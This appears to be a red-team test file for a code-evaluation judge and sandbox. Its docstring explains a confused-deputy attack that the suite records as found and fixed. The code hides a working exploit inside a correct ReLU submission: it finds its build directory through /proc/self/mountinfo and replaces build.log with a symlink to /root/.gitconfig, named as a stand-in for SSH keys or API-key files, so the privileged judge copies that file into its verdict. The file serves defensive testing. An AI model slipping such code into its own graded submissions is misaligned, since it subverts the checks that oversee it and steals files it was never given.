"""Attack: make the judge (root) copy a file of its choosing into the verdict (19_ReLU).

await_build() reads the last 8 KiB of <build entry>/build.log (tail_of_file in
candidate_phase.cpp) and stores it as build.log_tail in the verdict (and so the DB, the JSON
export, reports). The entry is the sandbox's to write; the judge follows a symlink there. The
candidate replaces build.log with a symlink to a file only the judge's uid can read (here
/root/.gitconfig as a harmless stand-in; as an unprivileged sandbox uid: /root/.ssh/*, API-key
files, other users' files, the results DB...). Confused deputy: the judge's privileges, the
candidate's choice, recorded as if it were the build's log.
Correct ReLU.
Verdict kbv gave: correct, build.log_tail = the content of /root/.gitconfig. WORKED (stores what
the judge did not decide; cross-uid read in the intended unprivileged deployment).

Found by the red team of the judge/sandbox split (2026-12-01). Fixed: the build log is read without following links. kbv must conclude: nothing outside the
candidate's build folder appears in its verdict.
"""
import os
import re

import torch
import torch.nn as nn

for line in open("/proc/self/mountinfo"):
    p = line.split()[4]
    if re.search(r"/builds/[0-9a-f]{16}$", p):
        log = os.path.join(p, "build.log")
        try:
            os.unlink(log)
        except OSError:
            pass
        os.symlink("/root/.gitconfig", log)
        print("ATTACK judge_reads_for_me: build.log ->", os.readlink(log), flush=True)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
